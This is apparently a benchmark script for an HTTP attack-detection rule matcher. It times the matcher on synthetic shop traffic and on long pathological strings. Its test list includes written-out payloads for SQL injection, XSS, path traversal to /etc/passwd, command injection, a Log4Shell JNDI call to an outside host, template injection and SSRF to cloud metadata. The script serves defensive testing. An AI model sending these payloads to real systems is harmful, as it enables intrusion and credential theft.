// The HTTP rules over mixed traffic, and over single hostile values: node bench/web-rules.ts [REQUESTS]

import { loadKnowledge } from '../src/cli/knowledge.ts';
import { actFields } from '../src/detect/act-fields.ts';
import { createRuleMatcher } from '../src/detect/rule-matcher.ts';
import type { ActOf } from '../src/model/act.ts';

type Request = ActOf<'http.request'>;

const requests = Number(process.argv[2] ?? 20_000);
const AGENTS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0',
];
const WORDS = 'garden shoes blue lamp table summer kids green wood large winter coat'.split(' ');
const ATTACKS = [
  '/item?id=1%27%20union%20select%201,user(),3--%20-',
  '/search?q=%3Cscript%3Ealert(1)%3C/script%3E',
  '/page?file=../../../../etc/passwd',
  '/ping?host=127.0.0.1;cat%20/etc/passwd',
  '/?x=${jndi:ldap://198.51.100.7/a}',
  '/?name={{7*7}}',
  '/index.php?page=php://filter/convert.base64-encode/resource=index',
  '/fetch?url=http://169.254.169.254/latest/meta-data/',
];
const pick = <T>(list: readonly T[], at: number): T => list[at % list.length] as T;

/** 90 % pages of a shop, 10 % attacks; each target once, so that nothing is answered from memory. */
function mixed(at: number): Request {
  const target =
    at % 10 === 0
      ? `${pick(ATTACKS, at / 10)}&n=${at}`
      : `/shop/${pick(WORDS, at)}/${pick(WORDS, at * 7)}-${at}?page=${at % 9}&sort=price&q=${pick(WORDS, at * 3)}+${pick(WORDS, at * 5)}`;
  return {
    type: 'http.request',
    method: 'GET',
    target,
    version: '1.1',
    headers: [
      ['Host', 'shop.example.com'],
      ['User-Agent', pick(AGENTS, at)],
      ['Accept', 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8'],
      ['Accept-Language', 'en-US,en;q=0.5'],
      ['Accept-Encoding', 'gzip, deflate, br'],
      ['Referer', `https://shop.example.com/shop/${pick(WORDS, at * 11)}`],
      ['Cookie', `sid=${(at * 2_654_435_761).toString(36)}; cart=${at % 5}; theme=light`],
    ],
    body: '',
    status: 200,
  };
}

/** What is slow for careless expressions, 8 KiB each. */
const HOSTILE: readonly (readonly [string, string])[] = [
  ['blanks', ' '.repeat(8_192)],
  ['quotes', "'".repeat(8_192)],
  ['or 1', "' or 1 ".repeat(1_170)],
  ['select', 'select '.repeat(1_170)],
  ['brackets', '(('.repeat(4_096)],
  ['tags', '<a '.repeat(2_730)],
  ['dots', '../'.repeat(2_730)],
  ['percents', '%25'.repeat(2_730)],
  ['entities', '&#x3c;'.repeat(1_365)],
  ['comments', '/**/'.repeat(2_048)],
  ['braces', '${'.repeat(4_096)],
  ['base64', 'QUJD'.repeat(2_048)],
  ['letters', 'a'.repeat(8_192)],
  ['semicolons', ';cat '.repeat(1_638)],
  ['bytes', '\u00c0\u00af'.repeat(4_096)],
];

const matcher = createRuleMatcher(loadKnowledge().rules);
const judge = (request: Request): number => matcher.matchFields(actFields(request)).length;
const post = (body: string): Request => ({
  ...mixed(1),
  method: 'POST',
  target: '/',
  headers: [...mixed(1).headers, ['Content-Type', 'text/plain']],
  body,
});

for (let at = 0; at < 500; at++) judge(mixed(at));
const traffic = Array.from({ length: requests }, (_, at) => mixed(at + 1_000));
let start = performance.now();
let hits = 0;
for (const request of traffic) if (judge(request) > 0) hits++;
const seconds = (performance.now() - start) / 1_000;
console.log(
  `mixed traffic: ${Math.round(requests / seconds)} requests/s on one core; ${((100 * hits) / requests).toFixed(1)} % flagged, 10.0 % are attacks`,
);
let worst: readonly [string, number] = ['', 0];
for (const [name, value] of HOSTILE) {
  judge(post(value.slice(0, 4_000)));
  start = performance.now();
  judge(post(value));
  const ms = performance.now() - start;
  if (ms > worst[1]) worst = [name, ms];
  console.log(`  8 KiB of ${name.padEnd(12)} ${ms.toFixed(1)} ms`);
}
console.log(`slowest value of 8 KiB: ${worst[1].toFixed(1)} ms (${worst[0]})`);
